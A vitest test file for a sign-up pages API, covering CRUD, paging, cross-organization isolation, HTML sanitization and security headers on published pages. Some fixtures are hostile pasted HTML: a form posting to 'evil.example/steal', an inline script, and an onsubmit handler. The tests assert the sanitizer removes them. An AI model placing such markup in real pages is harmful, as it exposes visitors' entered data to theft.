/**
 * Sign-up pages through the pipeline (in process): the spec's list call
 * (GET /signup-pages, "Sign-up pages" and "Limits"), the writes we
 * designed, and the public page on its own origin.
 */
import { beforeAll, describe, expect, it } from 'vitest';
import { endpointGroups, pageGroups } from '../../functions/groups.ts';
import {
  type ApiClient,
  createApiClient,
  createOrganizationWithKeys,
  type TestOrganization,
} from '../support/api-client.ts';
import { fixedClock } from '../support/dynamo.ts';

const ROW_FIELDS = [
  'createdAt',
  'id',
  'listId',
  'listName',
  'name',
  'slug',
  'sourceTemplateName',
  'status',
  'updatedAt',
].sort();

describe('sign-up pages (GET /signup-pages and the writes)', () => {
  const clock = fixedClock('2026-11-23T10:00:00.000Z');
  let client: ApiClient;
  let org: TestOrganization;
  let other: TestOrganization;
  let listId: string;
  let secondListId: string;
  let otherListId: string;

  const create = async (body: Record<string, unknown>) => {
    clock.advance(1000);
    const answer = await client.post('/signup-pages', {
      key: org.ownerKey,
      body: { listId, theme: 'classic', ...body },
    });
    expect(answer.status, JSON.stringify(answer.json)).toBe(201);
    return answer.json.data;
  };

  beforeAll(async () => {
    client = await createApiClient({
      clock,
      groups: [...endpointGroups, ...pageGroups],
    });
    org = await createOrganizationWithKeys(client, 'Pages');
    other = await createOrganizationWithKeys(client, 'Others');
    const list = (name: string, key: string) =>
      client
        .post('/lists', { key, body: { name } })
        .then((answer) => answer.json.data.id as string);
    listId = await list('Newsletter', org.ownerKey);
    secondListId = await list('Events', org.ownerKey);
    otherListId = await list('Theirs', other.ownerKey);
  });

  it('POST creates a draft (201) from a theme, with a slug made from the name and the public address', async () => {
    // Act
    const page = await create({ name: 'Spring Launch!' });
    // Assert
    expect(page).toMatchObject({
      name: 'Spring Launch!',
      slug: 'spring-launch',
      status: 'draft',
      listId,
      listName: 'Newsletter',
      sourceTemplateName: 'classic',
      version: 1,
      publishedAt: null,
      html: null,
    });
    expect(page.publicUrl).toMatch(/\/p\/pages[a-z0-9-]*\/spring-launch$/);
    expect(page.content.fields).toEqual({ firstName: true, lastName: false });
    // Another page of the same name takes the next free slug.
    expect((await create({ name: 'Spring Launch!' })).slug).toBe(
      'spring-launch-2',
    );
  });

  it('POST refuses theme and html together, neither, an unknown theme, a reserved or malformed slug — 400 naming the field, nothing written', async () => {
    // Arrange
    const before = await client.scan();
    const cases: [Record<string, unknown>, string][] = [
      [
        {
          name: 'x',
          listId,
          theme: 'classic',
          html: '<form><input name="email"></form>',
        },
        'html',
      ],
      [{ name: 'x', listId }, 'theme'],
      [{ name: 'x', listId, theme: 'neon-pink' }, 'theme'],
      [{ name: 'x', listId, theme: 'classic', slug: 'api' }, 'slug'],
      [{ name: 'x', listId, theme: 'classic', slug: 'Has Spaces' }, 'slug'],
      [{ name: 'x', listId, theme: 'classic', slug: 'a--b' }, 'slug'],
      [{ name: '', listId, theme: 'classic' }, 'name'],
      [{ name: 'x', listId, html: '<p>no form here</p>' }, 'html'],
      // Within the 100,000 bytes pasted, five times that once sanitized
      // (issue 29, defect 3: was a 500 from DynamoDB's 400 KB).
      [
        {
          name: 'x',
          listId,
          html: `<p>${'&'.repeat(95_000)}</p><form><input name="email"></form>`,
        },
        'html',
      ],
    ];
    for (const [body, field] of cases) {
      // Act
      const answer = await client.post('/signup-pages', {
        key: org.ownerKey,
        body,
      });
      // Assert
      expect(answer.status, JSON.stringify(body)).toBe(400);
      expect(
        answer.json.details.map((d: { field: string }) => d.field),
        JSON.stringify(answer.json),
      ).toContain(field);
    }
    expect(await client.scan()).toEqual(before);
  });

  it('POST answers 409 for a slug taken in the organization, 404 for a list of another organization, 403 for a member — writing nothing', async () => {
    // Arrange
    await create({ name: 'Taken', slug: 'taken' });
    const before = await client.scan();
    // Act
    const taken = await client.post('/signup-pages', {
      key: org.ownerKey,
      body: { name: 'Again', listId, theme: 'bold', slug: 'taken' },
    });
    const foreign = await client.post('/signup-pages', {
      key: org.ownerKey,
      body: { name: 'Theirs', listId: otherListId, theme: 'classic' },
    });
    const member = await client.post('/signup-pages', {
      key: org.memberKey,
      body: { name: 'Member', listId, theme: 'classic' },
    });
    // Another organization may use the same slug.
    const elsewhere = await client.post('/signup-pages', {
      key: other.ownerKey,
      body: {
        name: 'Taken',
        listId: otherListId,
        theme: 'classic',
        slug: 'taken',
      },
    });
    // Assert
    expect(taken.status).toBe(409);
    expect(taken.json.code).toBe('signupPage.slugTaken');
    expect(foreign.status).toBe(404);
    expect(foreign.json.code).toBe('list.notFound');
    expect(member.status).toBe(403);
    expect(elsewhere.status).toBe(201);
    const after = await client.scan();
    expect(after.length).toBeGreaterThan(before.length);
    expect(
      after.filter(
        (item) =>
          String(item.PK).includes(org.orgId) ||
          String(item.PK).startsWith('SLUG#pages'),
      ),
    ).toEqual(
      before.filter(
        (item) =>
          String(item.PK).includes(org.orgId) ||
          String(item.PK).startsWith('SLUG#pages'),
      ),
    );
  });

  it('GET lists newest first with the spec row (no HTML), page 1 and limit 20 by default, at most 100', async () => {
    // Act
    const all = await client.get('/signup-pages', { key: org.memberKey });
    const second = await client.get('/signup-pages', {
      key: org.memberKey,
      query: { page: '2', limit: '1' },
    });
    const tooMany = await client.get('/signup-pages', {
      key: org.memberKey,
      query: { limit: '101' },
    });
    // Assert
    expect(all.status).toBe(200);
    expect(all.json.pagination).toMatchObject({ page: 1, limit: 20 });
    const rows = all.json.data as { id: string; createdAt: string }[];
    expect(rows.length).toBe(all.json.pagination.total);
    for (const row of rows) expect(Object.keys(row).sort()).toEqual(ROW_FIELDS);
    const created = rows.map((row) => row.createdAt);
    expect(created).toEqual([...created].sort().reverse());
    expect(second.json.data[0].id).toBe(rows[1]?.id);
    expect(second.json.pagination).toMatchObject({
      page: 2,
      limit: 1,
      totalPages: rows.length,
    });
    expect(tooMany.status).toBe(400);
    expect(tooMany.json.details[0].field).toBe('limit');
  });

  it('GET filters: search over name and slug, status (another value 400), listId (another organization’s matches nothing)', async () => {
    // Arrange
    const autumn = await create({
      name: 'Autumn sale',
      slug: 'harvest',
      listId: secondListId,
    });
    await client.post(`/signup-pages/${autumn.id}/publish`, {
      key: org.ownerKey,
    });
    const get = (query: Record<string, string>) =>
      client.get('/signup-pages', { key: org.memberKey, query });
    // Act
    const byName = await get({ search: 'AUTUMN' });
    const bySlug = await get({ search: 'harv' });
    const published = await get({ status: 'published' });
    const drafts = await get({ status: 'draft' });
    const badStatus = await get({ status: 'archived' });
    const ofList = await get({ listId: secondListId });
    const ofForeignList = await get({ listId: otherListId });
    const nothing = await get({ search: 'no such page' });
    // Assert
    expect(byName.json.data.map((r: { id: string }) => r.id)).toEqual([
      autumn.id,
    ]);
    expect(bySlug.json.data.map((r: { id: string }) => r.id)).toEqual([
      autumn.id,
    ]);
    expect(published.json.data.map((r: { id: string }) => r.id)).toEqual([
      autumn.id,
    ]);
    expect(published.json.pagination.total).toBe(1);
    expect(
      drafts.json.data.every((r: { status: string }) => r.status === 'draft'),
    ).toBe(true);
    expect(drafts.json.pagination.total).toBe(drafts.json.data.length);
    expect(badStatus.status).toBe(400);
    expect(badStatus.json.details[0].field).toBe('status');
    expect(ofList.json.data.map((r: { id: string }) => r.id)).toEqual([
      autumn.id,
    ]);
    expect(ofForeignList.status).toBe(200);
    expect(ofForeignList.json.data).toEqual([]);
    expect(ofForeignList.json.pagination.total).toBe(0);
    expect(nothing.json.data).toEqual([]);
  });

  it('another organization’s page answers 404 on every call, and writes nothing', async () => {
    // Arrange
    const page = await create({ name: 'Private' });
    const before = await client.scan();
    const key = other.ownerKey;
    // Act
    const answers = await Promise.all([
      client.get(`/signup-pages/${page.id}`, { key }),
      client.patch(`/signup-pages/${page.id}`, { key, body: { name: 'Mine' } }),
      client.delete(`/signup-pages/${page.id}`, { key }),
      client.post(`/signup-pages/${page.id}/publish`, { key }),
      client.post(`/signup-pages/${page.id}/unpublish`, { key }),
    ]);
    // Assert
    for (const answer of answers) {
      expect(answer.status).toBe(404);
      expect(answer.json.code).toBe('signupPage.notFound');
    }
    expect(await client.scan()).toEqual(before);
  });

  it('PATCH changes content (version bumped), moves the slug (the old address is free), switches to pasted HTML and back', async () => {
    // Arrange
    const page = await create({ name: 'Changing', slug: 'changing' });
    const patch = (body: Record<string, unknown>) =>
      client.patch(`/signup-pages/${page.id}`, { key: org.ownerKey, body });
    // Act
    const renamed = await patch({ name: 'Renamed' });
    const reworded = await patch({
      headline: 'Join us',
      fields: { lastName: true },
    });
    const moved = await patch({ slug: 'changed' });
    const reuse = await create({ name: 'Reuse', slug: 'changing' });
    const pasted = await patch({
      html: '<h1>Hi</h1><form action="https://evil.example/steal"><label>Email <input name="email" type="email"></label><button>Go</button></form><script>alert(1)</script>',
    });
    const themed = await patch({ theme: 'minimal' });
    const empty = await patch({});
    // Assert
    expect(renamed.json.data).toMatchObject({ name: 'Renamed', version: 1 });
    expect(reworded.json.data.version).toBe(2);
    expect(reworded.json.data.content).toMatchObject({
      headline: 'Join us',
      fields: { firstName: true, lastName: true },
    });
    expect(moved.json.data.slug).toBe('changed');
    expect(reuse.slug).toBe('changing');
    expect(pasted.json.data.sourceTemplateName).toBeNull();
    expect(pasted.json.data.html).not.toContain('<script');
    expect(pasted.json.data.html).not.toContain('evil.example');
    expect(pasted.json.data.version).toBe(3);
    expect(themed.json.data).toMatchObject({
      sourceTemplateName: 'minimal',
      html: null,
      version: 4,
    });
    expect(empty.status).toBe(400);
  });

  it('a pasted page says and asks what its HTML does: consentText or fields given with html, or to a pasted page, answer 400 naming them; new HTML reads them again; a theme again brings the default wording', async () => {
    // Arrange
    const html = (inputs: string) =>
      `<form><label>Email <input type="email" name="email"></label>${inputs}<button>Sign me up</button></form>`;
    const page = await create({
      name: 'Own words',
      theme: undefined,
      html: html('<label>Last name <input name="lastName"></label>'),
    });
    const patch = (body: Record<string, unknown>) =>
      client.patch(`/signup-pages/${page.id}`, { key: org.ownerKey, body });
    const before = await client.scan();
    // Act
    const refused = [
      await client.post('/signup-pages', {
        key: org.ownerKey,
        body: {
          name: 'x',
          listId,
          html: html(''),
          consentText: 'Words never shown',
          fields: { lastName: true },
        },
      }),
      await patch({ consentText: 'Words never shown' }),
      await patch({ fields: { firstName: true } }),
    ];
    const afterRefused = await client.scan();
    const rewritten = await patch({
      html: html('<label>First name <input name="firstName"></label>'),
    });
    const themed = await patch({ theme: 'bold' });
    const worded = await patch({ consentText: 'Yes, write to me.' });
    // Assert
    expect(page.content).toMatchObject({
      fields: { firstName: false, lastName: true },
      consentText: 'Email Last name Sign me up',
    });
    expect(refused.map((answer) => answer.status)).toEqual([400, 400, 400]);
    expect(
      refused.map((answer) =>
        answer.json.details.map((d: { field: string }) => d.field),
      ),
    ).toEqual([['consentText', 'fields'], ['consentText'], ['fields']]);
    expect(afterRefused).toEqual(before);
    expect(rewritten.json.data.content).toMatchObject({
      fields: { firstName: true, lastName: false },
      consentText: 'Email First name Sign me up',
    });
    expect(themed.json.data.content.consentText).toBe(
      'By subscribing, you agree to receive emails from Pages. You can unsubscribe at any time with the link in every email.',
    );
    expect(worded.json.data.content.consentText).toBe('Yes, write to me.');
  });

  it('GET /signup-pages/{pageId} answers one’s own page with its content and public address; a pasted page with its HTML as stored (sanitized)', async () => {
    // Arrange
    const themed = await create({
      name: 'Read me',
      slug: 'read-me',
      headline: 'Read all about it',
    });
    const pasted = await create({
      name: 'Read pasted',
      theme: undefined,
      html: '<form onsubmit="steal()"><input type="email" name="email"><button>Go</button></form>',
    });
    // Act
    const gotThemed = await client.get(`/signup-pages/${themed.id}`, {
      key: org.memberKey,
    });
    const gotPasted = await client.get(`/signup-pages/${pasted.id}`, {
      key: org.memberKey,
    });
    // Assert
    expect(gotThemed.status).toBe(200);
    expect(gotThemed.json.data).toEqual(themed);
    expect(gotThemed.json.data).toMatchObject({
      html: null,
      content: { headline: 'Read all about it' },
    });
    expect(gotThemed.json.data.publicUrl).toMatch(
      /\/p\/pages[a-z0-9-]*\/read-me$/,
    );
    expect(gotPasted.json.data).toEqual(pasted);
    expect(gotPasted.json.data.html).toBe(
      '<form method="post"><input type="email" name="email"><button type="submit">Go</button></form>',
    );
  });

  it('PATCH answers 409 for a slug taken in the organization, 404 for a list of another organization, 400 for a slug over 64 characters — and changes nothing', async () => {
    // Arrange
    await create({ name: 'Holder', slug: 'held' });
    const page = await create({ name: 'Mover', slug: 'mover' });
    const before = await client.scan();
    const patch = (body: Record<string, unknown>) =>
      client.patch(`/signup-pages/${page.id}`, { key: org.ownerKey, body });
    // Act
    const taken = await patch({ slug: 'held' });
    const foreign = await patch({ listId: otherListId, name: 'Moved' });
    const tooLong = await patch({ slug: 'a'.repeat(65) });
    const reread = await client.get(`/signup-pages/${page.id}`, {
      key: org.ownerKey,
    });
    // Assert
    expect(taken.status).toBe(409);
    expect(taken.json.code).toBe('signupPage.slugTaken');
    expect(foreign.status).toBe(404);
    expect(foreign.json.code).toBe('list.notFound');
    expect(tooLong.status).toBe(400);
    expect(tooLong.json.details[0].field).toBe('slug');
    expect(await client.scan()).toEqual(before);
    expect(reread.json.data).toEqual(page);
  });

  it('POST takes a slug of 64 characters and refuses one of 65 (400 naming slug)', async () => {
    // Act
    const longest = await client.post('/signup-pages', {
      key: org.ownerKey,
      body: { name: 'Long', listId, theme: 'classic', slug: 'b'.repeat(64) },
    });
    const tooLong = await client.post('/signup-pages', {
      key: org.ownerKey,
      body: { name: 'Longer', listId, theme: 'classic', slug: 'c'.repeat(65) },
    });
    // Assert
    expect(longest.status).toBe(201);
    expect(tooLong.status).toBe(400);
    expect(tooLong.json.details[0].field).toBe('slug');
  });

  it('a slug made from the name avoids reserved words (api → api-page) and is page when the name has no letter or digit', async () => {
    // Act
    const reserved = await create({ name: 'API' });
    const unusable = await create({ name: '!!! ???' });
    const again = await create({ name: '¿¡…!' });
    // Assert
    expect(reserved.slug).toBe('api-page');
    expect(unusable.slug).toBe('page');
    expect(again.slug).toBe('page-2');
  });

  it('DELETE frees the slug: a new page may take it at once', async () => {
    // Arrange
    const page = await create({ name: 'Fleeting', slug: 'fleeting' });
    // Act
    const deleted = await client.delete(`/signup-pages/${page.id}`, {
      key: org.ownerKey,
    });
    const reused = await client.post('/signup-pages', {
      key: org.ownerKey,
      body: { name: 'Lasting', listId, theme: 'bold', slug: 'fleeting' },
    });
    const gone = await client.get(`/signup-pages/${page.id}`, {
      key: org.ownerKey,
    });
    // Assert
    expect(deleted.status).toBe(200);
    expect(reused.status).toBe(201);
    expect(reused.json.data.slug).toBe('fleeting');
    expect(gone.status).toBe(404);
  });

  it('GET /signup-pages/themes lists at least three themes, and each can make a page', async () => {
    // Act
    const themes = await client.get('/signup-pages/themes', {
      key: org.memberKey,
    });
    // Assert
    expect(themes.json.data.length).toBeGreaterThanOrEqual(3);
    for (const theme of themes.json.data as { name: string }[]) {
      expect(
        (await create({ name: `Theme ${theme.name}`, theme: theme.name }))
          .sourceTemplateName,
      ).toBe(theme.name);
    }
  });

  it('the public address answers only while published: 404 as a draft, 200 with strict headers once published, 404 at once after unpublish and delete', async () => {
    // Arrange
    const page = await create({ name: 'Visible', slug: 'visible' });
    const path = new URL(page.publicUrl).pathname;
    const view = () => client.get(path, { origin: 'pages' });
    // Act
    const draft = await view();
    await client.post(`/signup-pages/${page.id}/publish`, {
      key: org.ownerKey,
    });
    const live = await view();
    const again = await client.post(`/signup-pages/${page.id}/publish`, {
      key: org.ownerKey,
    });
    await client.post(`/signup-pages/${page.id}/unpublish`, {
      key: org.ownerKey,
    });
    const unpublished = await view();
    await client.post(`/signup-pages/${page.id}/publish`, {
      key: org.ownerKey,
    });
    const deleted = await client.delete(`/signup-pages/${page.id}`, {
      key: org.ownerKey,
    });
    const gone = await view();
    // Assert
    expect(draft.status).toBe(404);
    expect(live.status).toBe(200);
    expect(live.headers['content-type']).toContain('text/html');
    const csp = live.headers['content-security-policy'] ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("form-action 'self'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("style-src 'unsafe-inline'");
    expect(csp).not.toContain('script-src');
    expect(live.headers['x-frame-options']).toBe('DENY');
    expect(live.headers['x-content-type-options']).toBe('nosniff');
    expect(live.headers['referrer-policy']).toBe('no-referrer');
    expect(live.body).toContain('name="email"');
    expect(again.json.data.status).toBe('published');
    expect(unpublished.status).toBe(404);
    expect(deleted.json.data).toEqual({ id: page.id });
    expect(gone.status).toBe(404);
  });

  it('a form posted to an unpublished or a deleted page answers 404 and writes nothing', async () => {
    // Arrange: a form shown while the page was published.
    const page = await create({ name: 'Closing', slug: 'closing' });
    const path = new URL(page.publicUrl).pathname;
    await client.post(`/signup-pages/${page.id}/publish`, {
      key: org.ownerKey,
    });
    const shown = await client.get(path, { origin: 'pages' });
    const token = /name="form_token" value="([^"]*)"/.exec(shown.body)?.[1];
    clock.advance(10_000);
    const post = () =>
      client.post(path, {
        origin: 'pages',
        rawBody: new URLSearchParams({
          form_token: token ?? '',
          website: '',
          email: 'late@example.test',
        }).toString(),
        contentType: 'application/x-www-form-urlencoded',
        sourceIp: '198.51.100.30',
      });
    // Act
    await client.post(`/signup-pages/${page.id}/unpublish`, {
      key: org.ownerKey,
    });
    const before = await client.scan();
    const unpublished = await post();
    const afterUnpublished = await client.scan();
    await client.delete(`/signup-pages/${page.id}`, { key: org.ownerKey });
    const deleted = await post();
    // Assert
    expect(token).toBeDefined();
    expect(unpublished.status).toBe(404);
    expect(afterUnpublished).toEqual(before);
    expect(deleted.status).toBe(404);
  });
});

describe('GET /signup-pages paging (spec: "page: default 1", "limit: default 20, at most 100", "Newest first")', () => {
  const clock = fixedClock('2026-11-23T10:00:00.000Z');
  let client: ApiClient;
  let org: TestOrganization;
  let empty: TestOrganization;
  /** Ids of the 23 pages, newest first. */
  let newestFirst: string[];
  /** Ids of the 12 pages named "Spring …", newest first. */
  let springNewestFirst: string[];

  const list = (key: string, query: Record<string, string> = {}) =>
    client.get('/signup-pages', { key, query });
  const ids = (answer: { json: { data: { id: string }[] } }) =>
    answer.json.data.map((row) => row.id);

  beforeAll(async () => {
    client = await createApiClient({
      clock,
      groups: [...endpointGroups, ...pageGroups],
    });
    org = await createOrganizationWithKeys(client, 'Many');
    empty = await createOrganizationWithKeys(client, 'Empty');
    const listId = (
      await client.post('/lists', { key: org.ownerKey, body: { name: 'L' } })
    ).json.data.id;
    const created: { id: string; name: string }[] = [];
    for (let i = 1; i <= 23; i++) {
      clock.advance(1000);
      const name = i % 2 === 1 ? `Spring ${i}` : `Autumn ${i}`;
      const answer = await client.post('/signup-pages', {
        key: org.ownerKey,
        body: { name, listId, theme: 'classic' },
      });
      created.push({ id: answer.json.data.id, name });
    }
    newestFirst = created.map((page) => page.id).reverse();
    springNewestFirst = created
      .filter((page) => page.name.startsWith('Spring'))
      .map((page) => page.id)
      .reverse();
  });

  it('"limit: default 20" and "page: default 1": 23 pages give the 20 newest, totalPages 2; page 2 holds the other 3', async () => {
    // Act
    const first = await list(org.memberKey);
    const second = await list(org.memberKey, { page: '2' });
    // Assert
    expect(ids(first)).toEqual(newestFirst.slice(0, 20));
    expect(first.json.pagination).toEqual({
      total: 23,
      page: 1,
      limit: 20,
      totalPages: 2,
    });
    expect(ids(second)).toEqual(newestFirst.slice(20));
    expect(second.json.pagination).toMatchObject({ page: 2, totalPages: 2 });
  });

  it('"limit: at most 100": limit=100 is taken and gives all 23', async () => {
    // Act
    const all = await list(org.memberKey, { limit: '100' });
    // Assert
    expect(all.status).toBe(200);
    expect(ids(all)).toEqual(newestFirst);
    expect(all.json.pagination).toEqual({
      total: 23,
      page: 1,
      limit: 100,
      totalPages: 1,
    });
  });

  it('"search: matches internal name and slug" pages like the whole list, "Newest first": 12 matches at limit 5 are pages of 5, 5 and 2', async () => {
    // Act
    const pages = [
      await list(org.memberKey, { search: 'spring', limit: '5' }),
      await list(org.memberKey, { search: 'spring', limit: '5', page: '2' }),
      await list(org.memberKey, { search: 'spring', limit: '5', page: '3' }),
    ];
    // Assert
    expect(pages.map(ids)).toEqual([
      springNewestFirst.slice(0, 5),
      springNewestFirst.slice(5, 10),
      springNewestFirst.slice(10),
    ]);
    for (const answer of pages) {
      expect(answer.json.pagination).toMatchObject({
        total: 12,
        limit: 5,
        totalPages: 3,
      });
    }
  });

  it('"status: draft or published" pages too: page 2 of the drafts at the default limit holds the 3 oldest', async () => {
    // Act
    const second = await list(org.memberKey, { status: 'draft', page: '2' });
    // Assert
    expect(ids(second)).toEqual(newestFirst.slice(20));
    expect(second.json.pagination).toEqual({
      total: 23,
      page: 2,
      limit: 20,
      totalPages: 2,
    });
  });

  it('"an empty array when there are none": an organization without pages', async () => {
    // Act
    const none = await list(empty.memberKey);
    // Assert
    expect(none.status).toBe(200);
    expect(none.json.data).toEqual([]);
    expect(none.json.pagination).toMatchObject({
      total: 0,
      page: 1,
      limit: 20,
    });
  });
});

describe('sign-up pages an operator lets others frame (SIGNUP_FRAME_ANCESTORS)', () => {
  it('serves the page with the configured frame-ancestors, inline styles only, and no X-Frame-Options (which would forbid every frame)', async () => {
    // Arrange
    const client = await createApiClient({
      clock: fixedClock('2026-11-23T10:00:00.000Z'),
      groups: [...endpointGroups, ...pageGroups],
      signupForms: {
        frameAncestors: "'self' https://www.example.test",
      },
    });
    const org = await createOrganizationWithKeys(client, 'Framed');
    const listId = (
      await client.post('/lists', { key: org.ownerKey, body: { name: 'N' } })
    ).json.data.id;
    const page = (
      await client.post('/signup-pages', {
        key: org.ownerKey,
        body: { name: 'Embedded', listId, theme: 'bold' },
      })
    ).json.data;
    await client.post(`/signup-pages/${page.id}/publish`, {
      key: org.ownerKey,
    });
    // Act
    const served = await client.get(new URL(page.publicUrl).pathname, {
      origin: 'pages',
    });
    // Assert
    expect(served.status).toBe(200);
    expect(
      (served.headers['content-security-policy'] ?? '').split('; '),
    ).toEqual([
      "default-src 'none'",
      "style-src 'unsafe-inline'",
      'img-src https: data:',
      "form-action 'self'",
      "frame-ancestors 'self' https://www.example.test",
      "base-uri 'none'",
    ]);
    expect(served.headers).not.toHaveProperty('x-frame-options');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
  });
});
